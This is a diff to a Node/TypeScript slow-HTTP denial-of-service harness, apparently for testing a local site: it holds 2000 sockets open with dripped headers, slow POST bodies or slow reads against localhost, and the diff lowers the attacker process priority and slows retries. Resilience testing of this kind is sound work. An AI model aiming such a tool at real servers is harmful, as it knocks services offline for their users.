@@ -1,4 +1,5 @@
 import { connect as connectPlain, type Socket } from 'node:net';
+import { setPriority } from 'node:os';
 import { connect as connectTls } from 'node:tls';
 
 /**
@@ -23,13 +24,16 @@ export type Tally = { held: number; opened: number; cut: number };
 
 const SOURCES = 2000;
 const DRIP_MS = 2000;
-const AGAIN_MS = 200;
+const AGAIN_MS = 1000;
 
 const START: Record<Kind, (attack: Attack) => string> = {
   headers: () => 'GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ',
   body: () => 'POST /api/verificar HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\n',
   reading: ({ file }) => `GET ${file} HTTP/1.1\r\nHost: localhost\r\n\r\n`,
 };
+
+// Real attackers bring processors of their own; these must not take those of the site.
+setPriority(19);
 
 const open = new Set<Socket>();
 const tally: Tally = { held: 0, opened: 0, cut: 0 };
